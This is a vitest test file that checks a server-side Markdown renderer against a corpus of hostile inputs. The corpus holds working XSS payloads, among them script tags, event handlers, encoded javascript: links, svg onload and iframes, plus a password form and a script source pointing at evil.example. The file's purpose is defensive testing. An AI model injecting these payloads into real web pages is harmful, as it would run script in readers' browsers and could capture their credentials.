/**
 * Hostile Markdown: whatever a member writes, the stored HTML must not run
 * script, embed other pages, or load images at all (issue 17: an image from
 * another host tells it who reads what; it becomes a link). Each input is
 * rendered with the real renderer (marked + sanitize-html) and the output
 * is checked structurally, not against a fixed string.
 */
import { describe, expect, it } from "vitest";
import { renderMarkdown } from "~/utils/markdown.server";

const corpus: [string, string][] = [
  ["script tag", "<script>alert(1)</script>"],
  ["script tag, mixed case", "<ScRiPt>alert(1)</sCrIpT>"],
  ["script with src", '<script src="https://evil.example/x.js"></script>'],
  ["img onerror", '<img src="https://example.org/x.png" onerror="alert(1)">'],
  ["img onerror, no quotes", "<img src=x onerror=alert(1)//>"],
  ["onclick on a link", '<a href="https://example.org" onclick="alert(1)">x</a>'],
  ["onmouseover on a paragraph", '<p onmouseover="alert(1)">hover</p>'],
  ["javascript: link (HTML)", '<a href="javascript:alert(1)">x</a>'],
  ["javascript: link, mixed case", '<a href="JaVaScRiPt:alert(1)">x</a>'],
  ["javascript: link, entity-encoded", '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>'],
  ["javascript: link, hex entities", '<a href="&#x6A;avascript&#x3A;alert(1)">x</a>'],
  ["javascript: link, tab inside", '<a href="jav&#x09;ascript:alert(1)">x</a>'],
  ["javascript: link, leading space", '<a href=" javascript:alert(1)">x</a>'],
  ["data: link", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
  ["vbscript: link", '<a href="vbscript:msgbox(1)">x</a>'],
  ["Markdown link with javascript:", "[click](javascript:alert(1))"],
  ["Markdown link with encoded javascript:", "[click](&#106;avascript:alert(1))"],
  ["Markdown link with javascript: in angle brackets", "[click](<javascript:alert(1)>)"],
  ["reference link with javascript:", "[click][x]\n\n[x]: javascript:alert(1)"],
  ["autolink with javascript:", "<javascript:alert(1)>"],
  ["Markdown image over http", "![x](http://example.org/tracker.png)"],
  ["HTML image over http", '<img src="http://example.org/tracker.png">'],
  ["image with data: URL", "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"],
  ["Markdown image over https", "![x](https://tracker.example/pixel.png)"],
  ["HTML image with a hostile alt", '<img src="https://tracker.example/p.png" alt="&quot;><img src=x onerror=alert(1)>">'],
  ["image with javascript: src", "![x](javascript:alert(1))"],
  ["protocol-relative image", "![x](//evil.example/x.png)"],
  ["protocol-relative link", '<a href="//evil.example/">x</a>'],
  ["iframe", '<iframe src="https://evil.example"></iframe>'],
  ["object", '<object data="https://evil.example/x.swf"></object>'],
  ["embed", '<embed src="https://evil.example/x.swf">'],
  ["svg with onload", '<svg onload="alert(1)"><circle r="10"/></svg>'],
  ["svg with script", "<svg><script>alert(1)</script></svg>"],
  ["math with a javascript href", '<math><mtext><a href="javascript:alert(1)">x</a></mtext></math>'],
  ["style tag", "<style>body{background:url(javascript:alert(1))}</style>"],
  ["style attribute", '<p style="background:url(javascript:alert(1))">x</p>'],
  ["form and input", '<form action="https://evil.example"><input name="password"><button>go</button></form>'],
  ["meta refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
  ["base tag", '<base href="https://evil.example/">'],
  ["HTML comment hiding a script", "<!-- --><script>alert(1)</script><!-- -->"],
  ["comment breaking out of an attribute", '<!--<img src="--><img src=x onerror=alert(1)//">'],
  ["conditional comment", "<!--[if IE]><script>alert(1)</script><![endif]-->"],
  ["unclosed tag trick", '<img src="https://example.org/x.png"<script>alert(1)</script>'],
  ["event handler in a code block stays text", "```html\n<img src=x onerror=alert(1)>\n```"],
  ["link title with quotes", '[x](https://example.org "a\\" onmouseover=\\"alert(1)")'],
  ["srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ["formaction", '<button formaction="javascript:alert(1)">x</button>'],
  ["link to http page gets rel", "[a page](http://example.org/page)"],
  ["autolink URL gets rel", "<https://example.org/page>"],
  ["bare URL (GFM) gets rel", "see https://example.org/page"],
];

/** Every tag name in the output, and every attribute with its value. */
function parse(html: string) {
  const tags = [...html.matchAll(/<\s*([a-zA-Z][\w-]*)([^>]*)>/g)].map((match) => ({
    name: match[1]!.toLowerCase(),
    attributes: [...match[2]!.matchAll(/([^\s=/"']+)\s*(?:=\s*("[^"]*"|'[^']*'|[^\s>]+))?/g)].map((a) => ({
      name: a[1]!.toLowerCase(),
      value: (a[2] ?? "").replace(/^["']|["']$/g, ""),
    })),
  }));
  return tags;
}

const decode = (value: string) =>
  value
    .replace(/&#x([0-9a-f]+);?/gi, (_, hex: string) => String.fromCodePoint(parseInt(hex, 16)))
    .replace(/&#(\d+);?/g, (_, dec: string) => String.fromCodePoint(Number(dec)))
    .replace(/&colon;/gi, ":")
    .replace(/&amp;/g, "&")
    .replace(/[\u0000-\u0020]/g, "")
    .toLowerCase();

const ALLOWED_TAGS = new Set([
  "p", "br", "hr", "h2", "h3", "h4", "h5", "h6", "blockquote", "pre", "code", "ul", "ol", "li",
  "strong", "em", "del", "a", "table", "thead", "tbody", "tr", "th", "td",
]);

describe("renderMarkdown against hostile input", () => {
  it("has a corpus of at least 25 hostile inputs", () => {
    expect(corpus.length).toBeGreaterThanOrEqual(25);
  });

  it.each(corpus)("%s: nothing executable survives", (_name, source) => {
    const html = renderMarkdown(source);
    for (const tag of parse(html)) {
      expect(ALLOWED_TAGS, `tag <${tag.name}> in ${html}`).toContain(tag.name);
      for (const attribute of tag.attributes) {
        expect(attribute.name, `attribute ${attribute.name} in ${html}`).not.toMatch(/^on|^style$|^srcdoc$|^formaction$/);
        if (attribute.name === "href" || attribute.name === "src") {
          const url = decode(attribute.value);
          expect(url, `${attribute.name} in ${html}`).not.toMatch(/^(javascript|vbscript|data|file):/);
          expect(url, `${attribute.name} in ${html}`).not.toMatch(/^\/\//);
        }
      }
      if (tag.name === "a") {
        const rel = tag.attributes.find((a) => a.name === "rel");
        // An image made a link also gets noreferrer.
        expect(["nofollow ugc noopener", "nofollow ugc noopener noreferrer"], `rel on ${html}`).toContain(rel?.value);
      }
    }
    // Nothing that a browser would treat as markup hides in the text either.
    expect(html).not.toMatch(/<\s*(script|iframe|object|embed|svg|math|style|form|meta|base|img)\b/i);
  });

  it("shows images from other hosts, over https or http, as links the reader may open", () => {
    expect(renderMarkdown("![chart](https://example.org/c.png)")).toBe(
      '<p><a href="https://example.org/c.png" rel="nofollow ugc noopener noreferrer">Image from example.org: chart</a></p>',
    );
    expect(renderMarkdown("![chart](http://example.org/c.png)")).toContain('<a href="http://example.org/c.png"');
  });

  // A scheme-less src would load from this site, with the reader's cookies.
  it("drops images with a relative source", () => {
    expect(renderMarkdown("![x](x.png)")).not.toContain("<img");
    expect(renderMarkdown('<img src="/settings/account">')).not.toContain("<img");
  });

  it("gives every link rel=nofollow ugc noopener, even one that brought its own rel", () => {
    const html = renderMarkdown('<a href="https://example.org" rel="opener">x</a> and [y](https://example.org/y)');
    expect(html.match(/rel="nofollow ugc noopener"/g)).toHaveLength(2);
    expect(html).not.toContain('rel="opener"');
  });

  it("shows code as text, escaped", () => {
    expect(renderMarkdown("`<script>alert(1)</script>`")).toContain("&lt;script&gt;alert(1)&lt;/script&gt;");
  });
});
